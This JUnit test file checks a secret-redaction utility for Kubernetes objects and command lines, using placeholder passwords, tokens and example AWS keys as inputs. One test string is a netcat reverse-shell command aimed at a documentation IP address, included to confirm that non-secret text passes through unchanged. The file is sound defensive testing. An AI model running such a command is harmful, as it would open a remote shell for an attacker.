package io.cattleguard.respond.kubernetes.cluster;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeout;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import java.io.IOException;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class RedactionTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "--password=hunter2 --port=80 | --password=[redacted] --port=80",
        "--db-password hunter2 --port 80 | --db-password [redacted] --port 80",
        "export DB_PASSWORD=hunter2; run | export DB_PASSWORD=[redacted] run",
        "PGPASSWORD=\"hunter2 and more\" psql | PGPASSWORD=[redacted] psql",
        "{\"api_key\": \"hunter2\"} | {\"api_key\": [redacted]}",
        "curl -u ann:hunter2 https://example.com | curl -u ann:[redacted] https://example.com",
        "curl -H 'Authorization: Bearer hunter2' x | curl -H 'Authorization: [redacted] [redacted]'"
            + " x",
        "postgres://ann:hunter2@db:5432/shop | postgres://ann:[redacted]@db:5432/shop",
        "aws AKIAIOSFODNN7EXAMPLE s3 | aws [redacted] s3",
        "x wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY4567 | x [redacted]",
        "sh -c 'nc -e /bin/sh 203.0.113.7 4444' | sh -c 'nc -e /bin/sh 203.0.113.7 4444'",
        "java -jar /opt/shop/lib/application-server-1.2.3.jar | java -jar"
            + " /opt/shop/lib/application-server-1.2.3.jar"
      })
  void whatLooksLikeASecretIsReplacedAndTheRestStays(String text, String redacted) {
    assertEquals(redacted, Redaction.text(text));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{'containers':[{'command':['run','--token','hunter2']}]}",
        "{'containers':[{'args':['--client-secret=hunter2']}]}",
        "{'containers':[{'args':['-u','ann:hunter2']}]}",
        "{'containers':[{'env':[{'name':'X','value':'hunter2'}]}]}",
        "{'initContainers':[{'lifecycle':{'postStart':{'exec':{'command':['x','password=hunter2']}}}}]}",
        "{'livenessProbe':{'httpGet':{'httpHeaders':[{'name':'X-Key','value':'hunter2'}]}}}",
        "{'spec':{'template':{'metadata':{'annotations':{'a/last-applied':'hunter2'}}}}}",
        "{'metadata':{'annotations':{'copy':'containers: [env: hunter2]'}}}",
        "{'metadata':{'annotations':{'note':'token: hunter2'}}}",
        "{'message':'exec failed: --password=hunter2'}",
        "{'managedFields':['hunter2']}"
      })
  void aSecretIsFoundWhereverAnObjectHasIt(String json) throws IOException {
    JsonNode tree = JsonMapper.builder().build().readTree(json.replace('\'', '"'));
    assertTrue(tree.toString().contains("hunter2"));

    Redaction.redact(tree);

    assertFalse(tree.toString().contains("hunter2"), tree::toString);
  }

  @Test
  void aHostileTextCostsLittle() {
    String hostile = "token".repeat(20_000) + "-----BEGIN PRIVATE KEY-----".repeat(5_000);

    assertTimeout(Duration.ofSeconds(5), () -> Redaction.text(hostile));
  }
}
